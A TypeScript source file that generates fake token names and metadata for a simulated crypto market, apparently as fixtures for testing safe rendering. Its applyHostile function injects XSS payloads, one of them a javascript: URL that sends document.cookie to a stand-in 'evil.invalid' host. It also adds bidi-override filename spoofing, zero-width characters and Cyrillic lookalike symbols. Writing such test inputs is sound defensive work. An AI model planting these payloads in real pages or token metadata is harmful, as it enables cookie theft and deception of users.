import { assetUrl, DETACHED_ASSET_BASE } from "./assets";
import type { TokenMeta } from "./events";
import type { Rng } from "./rng";

// Token names, symbols and metadata. A small share carries hostile metadata on purpose (HTML, script URLs,
// bidi and zero-width characters, lookalike symbols, very long names): consumers must render it safely.

const ADJ = [
  "Based",
  "Tiny",
  "Giga",
  "Super",
  "Baby",
  "Dark",
  "Happy",
  "Angry",
  "Golden",
  "Frozen",
  "Cosmic",
  "Lazy",
  "Turbo",
  "Little",
  "Mega",
  "Pixel",
  "Wild",
  "Sleepy",
  "Royal",
  "Quantum",
  "Neon",
  "Sad",
  "Smol",
  "Chad",
  "Retro",
  "Hyper",
];
const NOUN = [
  "Frog",
  "Cat",
  "Dog",
  "Pepe",
  "Whale",
  "Moon",
  "Rocket",
  "Penguin",
  "Hamster",
  "Otter",
  "Goose",
  "Ape",
  "Banana",
  "Wizard",
  "Robot",
  "Dragon",
  "Panda",
  "Shiba",
  "Toad",
  "Bear",
  "Bull",
  "Duck",
  "Llama",
  "Capybara",
  "Fish",
  "Snail",
  "Raccoon",
  "Kitten",
  "Monk",
  "Ghost",
  "Alien",
  "Taco",
  "Donut",
  "Cheems",
  "Wojak",
  "Gecko",
  "Crab",
  "Owl",
];
const SUFFIX = ["", "", "", "", " Coin", " Inu", " AI", " 2.0", " Classic", " Token", " of Base", " on Sol", " DAO"];
const ESTABLISHED = [
  "Orbital Finance",
  "Meridian",
  "Lumen Network",
  "Tessera",
  "Halcyon",
  "Arclight",
  "Verdant",
  "Quasar Labs",
  "Northwind",
  "Solstice",
  "Cobalt Protocol",
  "Kestrel",
  "Ember DAO",
  "Polaris",
  "Fathom",
  "Obsidian",
  "Harbor",
  "Aether",
  "Bramble",
  "Cinder",
  "Driftwood",
  "Ironbark",
  "Juniper",
  "Keystone",
  "Larkspur",
  "Marigold",
  "Nimbus",
  "Onyx",
  "Pinnacle",
  "Quillon",
  "Riverstone",
  "Saffron",
  "Thistle",
  "Umber",
  "Vesper",
  "Willow",
  "Zephyr",
  "Alder",
  "Beacon",
  "Cypress",
];

export interface TokenText extends TokenMeta {
  name: string;
  symbol: string;
}

function symbolOf(name: string, rng: Rng): string {
  const words = name
    .replace(/[^A-Za-z ]/g, "")
    .split(" ")
    .filter(Boolean);
  const last = words[words.length - 1] ?? "TKN";
  const base = rng.chance(0.6) ? last : words.map((w) => w[0]).join("") + last.slice(0, 3);
  return base.toUpperCase().slice(0, rng.int(3, 8));
}

const slugOf = (s: string) => s.toLowerCase().replace(/[^a-z0-9]+/g, "");

function socials(
  rng: Rng,
  slug: string,
  id: string,
  assetBase: string,
): Omit<TokenText, "name" | "symbol" | "hostile" | "description"> {
  return {
    iconUrl: rng.chance(0.9) ? assetUrl(assetBase, "token", id) : null,
    websiteUrl: rng.chance(0.4) ? `https://${slug}.sim-market.invalid` : null,
    twitterUrl: rng.chance(0.6) ? `https://x.com/${slug}` : null,
    telegramUrl: rng.chance(0.35) ? `https://t.me/${slug}` : null,
    discordUrl: rng.chance(0.1) ? `https://discord.gg/${slug.slice(0, 8)}` : null,
  };
}

export function launchText(
  rng: Rng,
  id: string,
  forceHostile: boolean | HostileKind = false,
  assetBase = DETACHED_ASSET_BASE,
): TokenText {
  const name = `${rng.pick(ADJ)} ${rng.pick(NOUN)}${rng.pick(SUFFIX)}`.trim();
  const symbol = symbolOf(name, rng);
  const slug = slugOf(name);
  const text: TokenText = {
    name,
    symbol,
    hostile: null,
    description: rng.chance(0.7)
      ? `${name} is the people's ${name.split(" ").pop()?.toLowerCase()}. No roadmap, only vibes.`
      : null,
    ...socials(rng, slug, id, assetBase),
  };
  if (typeof forceHostile === "string") applyHostile(rng, text, forceHostile);
  else if (forceHostile || rng.chance(0.03)) applyHostile(rng, text);
  return text;
}

export function establishedText(rng: Rng, index: number, id: string, assetBase = DETACHED_ASSET_BASE): TokenText {
  const name = ESTABLISHED[index % ESTABLISHED.length] as string;
  const symbol =
    name.replace(/[^A-Z]/g, "").length >= 2
      ? name
          .replace(/[^A-Za-z]/g, "")
          .slice(0, 4)
          .toUpperCase()
      : name.slice(0, 4).toUpperCase();
  const slug = slugOf(name);
  return {
    name,
    symbol,
    hostile: null,
    description: `${name} — a long-standing token with deep liquidity across several pools.`,
    ...socials(rng, slug, id, assetBase),
    iconUrl: assetUrl(assetBase, "token", id),
    websiteUrl: `https://${slug}.sim-market.invalid`,
  };
}

const CYRILLIC: Record<string, string> = {
  A: "А",
  B: "В",
  C: "С",
  E: "Е",
  H: "Н",
  K: "К",
  M: "М",
  O: "О",
  P: "Р",
  T: "Т",
  X: "Х",
};

export const HOSTILE_KINDS = [
  "html-name",
  "script-url",
  "data-url",
  "vbscript-url",
  "bidi",
  "zero-width",
  "lookalike",
  "long-name",
] as const;

export type HostileKind = (typeof HOSTILE_KINDS)[number];

/** Mutates `text` with one hostile pattern (drawn, or the one named); records which. */
export function applyHostile(rng: Rng, text: TokenText, named?: HostileKind): void {
  const kind = named ?? rng.pick(HOSTILE_KINDS);
  text.hostile = kind;
  switch (kind) {
    case "html-name":
      text.name = `<img src=x onerror=alert(1)>${text.name}`;
      text.description = `<script>alert(document.cookie)</script><b>${text.name}</b>`;
      break;
    case "script-url":
      text.websiteUrl = "javascript:alert(document.domain)";
      text.twitterUrl = "JaVaScRiPt:fetch('//evil.invalid/'+document.cookie)";
      break;
    case "data-url":
      text.iconUrl = "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+";
      text.websiteUrl = "data:text/html,<script>alert(1)</script>";
      break;
    case "vbscript-url":
      text.telegramUrl = "vbscript:msgbox(1)";
      text.websiteUrl = " javascript:alert(1)";
      break;
    case "bidi":
      text.name = `${text.name} \u202Egnp.exe`;
      text.symbol = `\u202E${text.symbol}`;
      break;
    case "zero-width":
      text.symbol = text.symbol.split("").join("\u200B");
      text.name = `${text.name}\u200D\uFEFF`;
      break;
    case "lookalike":
      {
        const swapped = text.symbol.replace(/[ABCEHKMOPTX]/g, (ch) => CYRILLIC[ch] ?? ch);
        text.symbol = swapped !== text.symbol ? swapped : "РЕРЕ";
      }
      break;
    case "long-name":
      text.name = `${text.name} ${"TO THE MOON ".repeat(30)}`.slice(0, 300);
      break;
  }
}

export const DISPLAY_FIRST = [
  "degen",
  "whale",
  "alpha",
  "sol",
  "based",
  "moon",
  "frog",
  "anon",
  "chad",
  "sniper",
  "ape",
  "mev",
  "gm",
  "wagmi",
  "kek",
  "pump",
  "yield",
  "onchain",
  "ser",
  "fren",
];
export const DISPLAY_LAST = [
  "lord",
  "hunter",
  "capital",
  "maxi",
  "trader",
  "king",
  "queen",
  "labs",
  "dao",
  "wizard",
  "guy",
  "enjoyer",
  "fund",
  "sensei",
  "monk",
  "ninja",
  "farmer",
  "printer",
];
